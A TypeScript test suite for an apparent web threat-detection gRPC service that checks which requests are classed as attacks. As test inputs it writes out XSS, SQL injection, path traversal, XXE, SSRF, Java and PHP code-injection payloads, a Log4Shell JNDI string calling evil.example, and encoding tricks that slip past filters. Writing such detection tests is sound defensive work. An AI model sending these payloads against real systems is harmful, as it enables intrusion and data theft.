/**
 * Issue 17, "Why it misses": each reproduction through gRPC against the real service (two
 * replicas are not needed here: one, on the run's real Redis).
 */
import { expect } from 'chai';
import { randomUUID } from 'node:crypto';
import { status as grpcStatus } from '@grpc/grpc-js';
import { CamouflageServiceClient, ThreatTier, type AssessRequest, type AssessResponse } from '../../../gen/shieldx/camouflage/v1/camouflage';
import { errorDetails } from '../../../platform/grpc-errors';
import type { RunningService } from '../../../platform/server';
import { address, bearer, insecure, startTestService, testKeys } from '../../../testing/harness';
import { camouflageService } from '../index';

const BROWSER_HEADERS = { accept: 'text/html,application/xhtml+xml', 'accept-language': 'en-GB,en;q=0.9', host: 'shop.example.com' };
const BROWSER_UA = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36';

export function browserAssessRequest(overrides: Partial<AssessRequest>): AssessRequest {
  return {
    clientIp: '198.51.100.20',
    method: 'GET',
    path: '/',
    query: '',
    headers: BROWSER_HEADERS,
    userAgent: BROWSER_UA,
    tlsFingerprint: '',
    sessionKey: `s-${randomUUID()}`,
    timestamp: new Date(),
    previousStatus: 0,
    policy: 0,
    ...overrides,
  };
}

describe('camouflage detection over gRPC (issue 17)', function () {
  this.timeout(60_000);
  let service: RunningService;
  let client: CamouflageServiceClient;
  const assess = (overrides: Partial<AssessRequest>): Promise<{ error: unknown; response?: AssessResponse }> =>
    new Promise((resolve) => client.assess(browserAssessRequest(overrides), bearer(testKeys.camouflage), (error, response) => resolve({ error, response })));
  const ok = async (overrides: Partial<AssessRequest>): Promise<AssessResponse> => {
    const { error, response } = await assess(overrides);
    expect(error, `${overrides.method ?? "GET"} ${overrides.path ?? "/"}?${(overrides.query ?? "").slice(0, 120)}`).to.equal(null);
    return response!;
  };
  const names = (response: AssessResponse) => response.signals.map((s) => s.name);

  before(async () => {
    service = await startTestService(camouflageService, { CAMOUFLAGE_REDIS_PREFIX: `test:camo-detect:${randomUUID().slice(0, 8)}:`, MIGRATE_ON_START: 'false' });
    client = new CamouflageServiceClient(address(service), insecure);
  });
  after(async () => {
    client.close();
    await service.shutdown();
  });

  // RFC 9110 allows any token as a method: SSDP and WebDAV methods get a verdict, not INVALID_ARGUMENT.
  it('accepts any RFC 9110 method token up to 32 characters', async () => {
    for (const method of ['M-SEARCH', 'VERSION-CONTROL', 'PROPFIND', 'BASELINE-CONTROL']) {
      const response = await ok({ method });
      expect(response.tier, method).to.equal(ThreatTier.THREAT_TIER_BENIGN);
    }
    for (const method of ['GET /', 'A'.repeat(33), 'GE(T']) {
      const { error } = await assess({ method });
      expect(errorDetails(error), method).to.include({ code: grpcStatus.INVALID_ARGUMENT, reason: 'INVALID_ARGUMENT' });
    }
  });

  // URL-encoded payloads in cookies and in the Referer's query are decoded before matching.
  it('decodes cookie values and the Referer query before matching', async () => {
    const xss = await ok({ headers: { ...BROWSER_HEADERS, cookie: 'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E' } });
    expect(names(xss)).to.include('xss');
    expect(xss.signals.find((s) => s.name === 'xss')!.detail).to.contain('cookie');
    const sqli = await ok({ headers: { ...BROWSER_HEADERS, cookie: "theme=dark; last_search='%20OR%201%3D1--" } });
    expect(names(sqli)).to.include('sql-injection');
    const referer = await ok({ headers: { ...BROWSER_HEADERS, referer: 'https://shop.example.com/search?q=1%27+UNION+SELECT+password+FROM+users--' } });
    expect(names(referer)).to.include('sql-injection');
    expect(referer.signals.find((s) => s.name === 'sql-injection')!.detail).to.contain('header:referer');
  });

  // Encodings that filters miss are normalised first: overlong UTF-8, %u, HTML entities, full-width, in names too.
  it('normalises overlong UTF-8, %u escapes, HTML entities and full-width forms, in names as well as values', async () => {
    expect(names(await ok({ path: '/static/..%c0%af..%c0%af..%c0%afetc/passwd' }))).to.include('path-traversal');
    expect(names(await ok({ query: 'q=%u003Cscript%u003Ealert(1)%u003C/script%u003E' }))).to.include('xss');
    expect(names(await ok({ query: 'u=javascript%26%2358%3Bvoid(0)' }))).to.include('xss');
    expect(names(await ok({ query: 'q=%26lt%3Bscript%26gt%3Bx%26lt%3B/script%26gt%3B' }))).to.include('xss');
    expect(names(await ok({ query: `q=${encodeURIComponent('＜script＞alert(1)＜/script＞')}` }))).to.include('xss');
    expect(names(await ok({ query: `${encodeURIComponent('<script>alert(1)</script>')}=1` }))).to.include('xss');
    expect(names(await ok({ headers: { ...BROWSER_HEADERS, cookie: `${encodeURIComponent('<svg onload=alert(1)>')}=1` } }))).to.include('xss');
    expect(names(await ok({ headers: { ...BROWSER_HEADERS, 'x-search': '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;' } }))).to.include('xss');
  });

  // A payload behind 4 × 4 KiB of filler headers, or behind a 4 KiB query parameter, is still found; the overflow is a signal.
  it('scans every field up to its limit: payloads behind filler are found', async () => {
    const filler = Object.fromEntries([1, 2, 3, 4].map((i) => [`a-filler-${i}`, 'x'.repeat(4_096)]));
    const behindHeaders = await ok({ userAgent: '', headers: { ...BROWSER_HEADERS, ...filler, 'user-agent': '${jndi:ldap://evil.example/a}' } });
    expect(names(behindHeaders)).to.include('log4shell-jndi');
    expect(behindHeaders.tier).to.equal(ThreatTier.THREAT_TIER_ATTACK);
    const behindQuery = await ok({ query: `a=${'b'.repeat(4_096)}&q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D` });
    expect(names(behindQuery)).to.include.members(['log4shell-jndi', 'oversized-input']);
    const behindLongValue = await ok({ query: `q=${'a'.repeat(5_000)}%27%20OR%201%3D1--` });
    expect(names(behindLongValue)).to.include.members(['sql-injection', 'oversized-input']);
  });

  // Ordinary WordPress pages alone are benign and are never served a honeytoken.
  it('keeps ordinary CMS paths benign, without honeytokens', async () => {
    for (const path of ['/wp-login.php', '/wp-admin/', '/wp-content/plugins/akismet/_inc/styles.css', '/wp-admin/edit.php']) {
      const response = await ok({ path });
      expect(response.tier, path).to.equal(ThreatTier.THREAT_TIER_BENIGN);
      expect(response.honeytoken, path).to.equal('');
      expect(response.decoy!.carriesHoneytoken, path).to.equal(false);
    }
  });

  // One SQL injection or XSS match is an attack, not "likely bot".
  it('puts one SQL injection or XSS match in the attack tier', async () => {
    for (const query of ["id=1'%20OR%20'1'%3D'1", 'id=1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users', 'q=%3Cscript%3Ealert(1)%3C/script%3E', 'q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E']) {
      const response = await ok({ query });
      expect(response.tier, query).to.equal(ThreatTier.THREAT_TIER_ATTACK);
    }
  });

  const post = (contentType: string, content: string | Buffer, extra: Partial<AssessRequest> = {}) =>
    ok({ method: 'POST', path: '/comments', body: { contentType, content: Buffer.from(content), length: 0n }, ...extra });
  const detailOf = (response: AssessResponse, name: string) => response.signals.find((s) => s.name === name)?.detail ?? '';

  // Bodies are parsed as their content type says, and every key and value is scanned where the application reads it.
  it('scans JSON, form, multipart and XML bodies, naming the field', async () => {
    const json = await post('application/json', '{"post":{"title":"hi","text":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}}');
    expect(json.tier).to.equal(ThreatTier.THREAT_TIER_ATTACK);
    expect(detailOf(json, 'xss')).to.contain('body.post.text');
    const form = await post('application/x-www-form-urlencoded', 'user=admin&pass=x%27+OR+%271%27%3D%271');
    expect(detailOf(form, 'sql-injection')).to.contain('body.pass');
    const boundary = '----WebKitFormBoundary7MA4YWxkTrZu0gW';
    const multipart = await post(
      `multipart/form-data; boundary=${boundary}`,
      `--${boundary}\r\nContent-Disposition: form-data; name="avatar"; filename="../../../etc/passwd"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--${boundary}--\r\n`,
    );
    expect(detailOf(multipart, 'path-traversal')).to.contain('body.avatar[filename]');
    const xml = await post('application/xml', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><q>&x;</q></r>');
    expect(names(xml)).to.include.members(['xml-external-entity', 'ssrf-probe']);
    const text = await post('text/plain', "1' UNION SELECT password FROM users--");
    expect(detailOf(text, 'sql-injection')).to.contain('body');
  });

  // Ordinary bodies stay benign: a JSON API call, a login form, a forum post that mentions SQL in English.
  it('keeps ordinary JSON and form bodies benign', async () => {
    for (const [type, content] of [
      ['application/json', '{"items":[{"sku":"A-42","qty":2}],"coupon":"SUMMER24","note":"leave at the door"}'],
      ['application/x-www-form-urlencoded', 'username=ada%40example.com&password=correct+horse+battery+staple&remember=on'],
      ['application/x-www-form-urlencoded', 'comment=Please+select+the+best+option+from+the+list+and+update+your+profile'],
    ] as const) {
      const response = await post(type, content);
      expect(response.tier, content).to.equal(ThreatTier.THREAT_TIER_BENIGN);
    }
  });

  // A body longer than the capture is scanned up to it, and the overflow is a signal.
  it('flags a body longer than what was captured', async () => {
    const response = await ok({ method: 'POST', path: '/upload', body: { contentType: 'application/octet-stream', content: Buffer.from('abc'), length: 10_000_000n } });
    expect(names(response)).to.include('body-overflow');
    const big = Buffer.alloc(70_000, 0x61);
    const cut = await ok({ method: 'POST', path: '/upload', body: { contentType: 'text/plain', content: big, length: 0n } });
    expect(names(cut)).to.include('body-overflow');
  });

  // A stolen decoy credential posted in a login form comes back: honeytoken hit, level 10.
  it('sees a honeytoken posted in a login form body', async () => {
    let token = '';
    for (let i = 0; i < 30 && token === ''; i++) token = (await ok({ path: '/.env', userAgent: 'nikto/2.5.0', headers: {} })).honeytoken;
    expect(token, 'an attack-tier decision served a honeytoken').to.not.equal('');
    const login = await post('application/x-www-form-urlencoded', `username=admin&password=${encodeURIComponent(token)}`, { path: '/login' });
    expect(login.honeytokenTriggered).to.equal(true);
    expect(login.threatLevel).to.equal(10);
    expect(detailOf(login, 'honeytoken-replayed')).to.contain('body.password');
  });

  // libddwaf's ruleset finds what the hand-written detectors miss; each match is a signal naming rule, class, field and text.
  it('explains WAF matches with rule id, class, field and matched text', async () => {
    const wrapper = await ok({ query: 'include=zip://shell.jpg%23payload.php' });
    expect(detailOf(wrapper, 'waf-php-code-injection')).to.match(/crs-933-200.*query\.include: "zip:\/\/"/);
    const java = await ok({ query: 'x=java.lang.Runtime.getRuntime().exec(%22id%22)' });
    expect(java.tier).to.equal(ThreatTier.THREAT_TIER_ATTACK);
    expect(detailOf(java, 'waf-java-code-injection')).to.contain('query.x');
    const ssrf = await ok({ query: 'url=http://127.0.0.1:8080/admin' });
    expect(detailOf(ssrf, 'waf-ssrf')).to.contain('query.url');
    const body = await post('application/json', '{"profile":{"bio":"java.lang.Runtime"}}');
    expect(detailOf(body, 'waf-java-code-injection')).to.contain('body.profile.bio');
    expect((await ok({ path: '/products/42', query: 'page=2&sort=price' })).signals).to.deep.equal([]);
  });
});

describe('camouflage with the WAF off (CAMOUFLAGE_WAF=off)', function () {
  this.timeout(60_000);
  // The switch really removes the engine: the same request gets only the project's own detectors.
  it('scores with the own detectors only', async () => {
    const service = await startTestService(camouflageService, { CAMOUFLAGE_REDIS_PREFIX: `test:camo-nowaf:${randomUUID().slice(0, 8)}:`, MIGRATE_ON_START: 'false', CAMOUFLAGE_WAF: 'off' });
    const client = new CamouflageServiceClient(address(service), insecure);
    try {
      const response = await new Promise<AssessResponse>((resolve, reject) =>
        client.assess(browserAssessRequest({ query: 'include=zip://shell.jpg%23payload.php' }), bearer(testKeys.camouflage), (error, r) => (error ? reject(error) : resolve(r!))),
      );
      expect(response.signals.filter((s) => s.name.startsWith('waf-'))).to.deep.equal([]);
    } finally {
      client.close();
      await service.shutdown();
    }
  });
});
